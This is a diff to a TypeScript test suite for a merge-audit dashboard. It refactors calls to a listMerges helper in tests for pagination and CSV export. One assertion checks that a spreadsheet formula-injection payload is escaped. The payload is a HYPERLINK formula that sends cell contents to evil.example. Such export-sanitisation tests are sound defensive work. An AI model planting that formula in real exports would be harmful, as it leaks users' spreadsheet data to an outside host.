@@ -6,6 +6,7 @@
 import { BYPASS_MERGE, CAPTURE_MERGE, HOSTILE, SEED_NOW, sha } from "./support/seed-audit.js";
 import { startDashboardServer, TEST_TOKEN, type DashboardServer } from "./support/dashboard-server.js";
 import { cookieValue, hiddenField, request, signIn } from "./support/http.js";
+import { listMerges } from "../support/list-merges.js";
 
 describe("access", () => {
   let server: DashboardServer;
@@ -326,7 +327,7 @@ describe("pages", () => {
       path = /<a href="([^"]+)" rel="next">/.exec(res.text)?.[1]?.replace(/&amp;/g, "&") ?? null;
       pages += 1;
     }
-    const total = (await server.store.listMerges({ limit: 1000 })).length;
+    const total = (await listMerges(server.store, { limit: 1000 })).length;
     expect(seen).toHaveLength(total);
     expect(new Set(seen).size).toBe(total);
     expect(pages).toBe(Math.ceil(total / 50));
@@ -341,7 +342,7 @@ describe("pages", () => {
     expect(lines[0]).toBe("merged_at,repo,pr,ai,tools,team,reviewers,check,bypassed,exceptions,reverted_by,merge_sha,title");
     expect(lines.at(-1)).toBe("");
     expect(res.text.replace(/\r\n/g, "")).not.toContain("\n");
-    const expected = (await server.store.listMerges({ repo: "acme/web", limit: 1000 })).length;
+    const expected = (await listMerges(server.store, { repo: "acme/web", limit: 1000 })).length;
     expect(lines.length - 2).toBe(expected);
     expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
     expect(res.text).not.toMatch(/(^|,)=HYPERLINK/m);
